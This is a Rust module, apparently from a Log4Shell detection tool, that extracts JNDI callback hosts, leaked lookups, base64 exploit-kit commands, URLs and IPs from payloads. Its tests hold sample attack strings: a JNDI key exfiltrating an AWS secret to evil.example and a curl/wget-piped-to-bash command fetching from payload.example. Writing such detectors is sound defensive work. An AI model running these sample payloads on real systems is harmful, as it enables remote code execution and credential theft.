//! Indicators inside a payload: the callback a lookup key names, the
//! base64 command exploit kits carry in the path, and the URLs and
//! addresses inside that command.

use std::net::{IpAddr, Ipv4Addr};

use base64::Engine as _;

use crate::Callback;

/// JNDI URL schemes that reach out over the network.
pub const REMOTE_PROTOCOLS: &[&str] = &[
    "ldap",
    "ldaps",
    "rmi",
    "dns",
    "iiop",
    "iiopname",
    "corba",
    "corbaname",
    "nds",
    "nis",
    "http",
    "https",
];

fn default_port(protocol: &str) -> Option<u16> {
    Some(match protocol {
        "ldap" => 389,
        "ldaps" => 636,
        "rmi" => 1099,
        "dns" => 53,
        "iiop" | "iiopname" | "corba" | "corbaname" => 900,
        "http" => 80,
        "https" => 443,
        _ => return None,
    })
}

/// Parses a JNDI lookup key (`ldap://host:1389/a`) into a callback when its
/// scheme is a remote one. Lookups left unresolved in the key
/// (`${env:X}.evil.example`) stay in the host as they are.
pub fn callback(key: &str) -> Option<Callback> {
    let key = key.trim();
    let (scheme, rest) = key.split_once(':')?;
    let protocol = scheme.trim().to_ascii_lowercase();
    if !REMOTE_PROTOCOLS.contains(&protocol.as_str()) {
        return None;
    }
    let (authority, path) = match rest.strip_prefix("//") {
        Some(r) => {
            // The authority ends at the first `/`, `?` or `#` outside a lookup.
            let end = authority_end(r);
            (&r[..end], &r[end..])
        }
        None => ("", rest),
    };
    let authority = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
    let (host, port) = split_host_port(authority);
    let port = match port {
        Some(p) => p.parse::<u16>().ok(),
        None => default_port(&protocol),
    };
    Some(Callback {
        protocol,
        host: host.to_owned(),
        port,
        path: path.to_owned(),
    })
}

fn authority_end(r: &str) -> usize {
    let mut depth = 0usize;
    let b = r.as_bytes();
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'$' if b.get(i + 1) == Some(&b'{') => {
                depth += 1;
                i += 2;
                continue;
            }
            b'}' if depth > 0 => depth -= 1,
            b'/' | b'?' | b'#' if depth == 0 => return i,
            _ => {}
        }
        i += 1;
    }
    b.len()
}

fn split_host_port(a: &str) -> (&str, Option<&str>) {
    if let Some(rest) = a.strip_prefix('[') {
        if let Some((h, after)) = rest.split_once(']') {
            return (h, after.strip_prefix(':'));
        }
    }
    match a.rsplit_once(':') {
        // A bare IPv6 address has more colons outside lookups; a host such
        // as `${sys:java.version}.x.example:1099` has one.
        Some((h, p))
            if !p.is_empty()
                && p.bytes().all(|c| c.is_ascii_digit())
                && !without_lookups(h).contains(':') =>
        {
            (h, Some(p))
        }
        _ => (a, None),
    }
}

/// `s` with its `${…}` spans removed.
fn without_lookups(s: &str) -> String {
    let mut out = String::new();
    let mut depth = 0usize;
    let b = s.as_bytes();
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'$' && b.get(i + 1) == Some(&b'{') {
            depth += 1;
            i += 2;
            continue;
        }
        if b[i] == b'}' && depth > 0 {
            depth -= 1;
        } else if depth == 0 {
            out.push(b[i] as char);
        }
        i += 1;
    }
    out
}

/// The lookups left unresolved in a key: what the callback would leak
/// (`env:AWS_SECRET_ACCESS_KEY`, `java:version`, `hostName`).
pub fn leaked_lookups(key: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut rest = key;
    while let Some(i) = rest.find("${") {
        let after = &rest[i + 2..];
        let Some(end) = after.find('}') else { break };
        let inner = &after[..end];
        let inner = inner.rsplit("${").next().unwrap_or(inner);
        if !inner.is_empty() && !out.iter().any(|x: &String| x == inner) {
            out.push(inner.to_owned());
        }
        rest = &after[end + 1..];
    }
    out
}

/// A base64 command in an exploit-kit path (`/Basic/Command/Base64/…`,
/// `/TomcatBypass/Command/Base64/…`, …), decoded.
pub fn base64_command(path: &str) -> Option<String> {
    let lower = path.to_ascii_lowercase();
    let at = lower.find("/base64/")?;
    let enc = &path[at + "/base64/".len()..];
    let enc: String = enc
        .chars()
        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=' | '-' | '_' | '%'))
        .collect();
    let enc = enc
        .replace("%3D", "=")
        .replace("%3d", "=")
        .replace("%2B", "+")
        .replace("%2F", "/");
    let enc = enc.trim_end_matches('/');
    let trimmed = enc.trim_end_matches('=');
    for engine in [
        &base64::engine::general_purpose::STANDARD_NO_PAD,
        &base64::engine::general_purpose::URL_SAFE_NO_PAD,
    ] {
        if let Ok(bytes) = engine.decode(trimmed) {
            if let Ok(s) = String::from_utf8(bytes) {
                if !s.is_empty() && s.chars().all(|c| !c.is_control() || c.is_whitespace()) {
                    return Some(s);
                }
            }
        }
    }
    None
}

/// URLs (`http://`, `https://`, `ldap://`, …) in free text.
pub fn urls(text: &str) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    let lower = text.to_ascii_lowercase();
    let mut from = 0;
    while let Some(i) = lower[from..].find("://") {
        let at = from + i;
        let start = lower[..at]
            .rfind(|c: char| !c.is_ascii_alphanumeric() && c != '+' && c != '-' && c != '.')
            .map_or(0, |p| p + 1);
        let end = text[at + 3..]
            .find(|c: char| {
                c.is_whitespace()
                    || matches!(
                        c,
                        '"' | '\'' | '|' | ';' | ')' | '(' | '<' | '>' | '`' | '}' | '{'
                    )
            })
            .map_or(text.len(), |p| at + 3 + p);
        if start < at && end > at + 3 {
            let u = &text[start..end];
            if !out.iter().any(|x| x == u) {
                out.push(u.to_owned());
            }
        }
        from = end.max(at + 3);
    }
    out
}

/// IP addresses in free text: dotted IPv4 (with an optional `:port` that
/// is ignored) and bracketed or bare IPv6.
pub fn ips(text: &str) -> Vec<IpAddr> {
    let mut out: Vec<IpAddr> = Vec::new();
    for tok in text
        .split(|c: char| !(c.is_ascii_hexdigit() || c == '.' || c == ':' || c == '[' || c == ']'))
    {
        let tok = tok.trim_matches(|c| c == '.' || c == '[' || c == ']');
        if tok.is_empty() {
            continue;
        }
        let ip = if tok.contains('.') {
            let host = tok.split(':').next().unwrap_or(tok);
            host.parse::<Ipv4Addr>().ok().map(IpAddr::V4)
        } else if tok.matches(':').count() >= 2 {
            tok.parse::<IpAddr>().ok()
        } else {
            None
        };
        if let Some(ip) = ip {
            if !out.contains(&ip) {
                out.push(ip);
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn callbacks() {
        let c = callback("ldap://203.0.113.7:1389/Basic/Command/Base64/dG91Y2ggL3RtcC9wd25lZA==")
            .unwrap_or_default();
        assert_eq!(
            (c.protocol.as_str(), c.host.as_str(), c.port),
            ("ldap", "203.0.113.7", Some(1389))
        );
        assert_eq!(base64_command(&c.path).as_deref(), Some("touch /tmp/pwned"));
        let c = callback("LDAP://${env:AWS_SECRET_ACCESS_KEY}.evil.example/a").unwrap_or_default();
        assert_eq!(
            (c.host.as_str(), c.port, c.path.as_str()),
            ("${env:AWS_SECRET_ACCESS_KEY}.evil.example", Some(389), "/a")
        );
        let c = callback("dns://[2001:db8::1]:5353/x").unwrap_or_default();
        assert_eq!((c.host.as_str(), c.port), ("2001:db8::1", Some(5353)));
        assert_eq!(callback("java:comp/env/jdbc/ds"), None);
        assert_eq!(callback("ldap"), None);
    }

    #[test]
    fn leaks() {
        assert_eq!(
            leaked_lookups("ldap://${env:A}.${java:version}.x/${hostName}"),
            vec!["env:A", "java:version", "hostName"]
        );
    }

    #[test]
    fn command_iocs() {
        let cmd = "(curl -s 198.51.100.4:5874/203.0.113.7:443||wget -q -O- http://payload.example/x.sh)|bash";
        assert_eq!(urls(cmd), vec!["http://payload.example/x.sh"]);
        assert_eq!(
            ips(cmd),
            vec![
                "198.51.100.4"
                    .parse::<IpAddr>()
                    .unwrap_or(IpAddr::V4(Ipv4Addr::UNSPECIFIED)),
                "203.0.113.7"
                    .parse()
                    .unwrap_or(IpAddr::V4(Ipv4Addr::UNSPECIFIED))
            ]
        );
    }
}
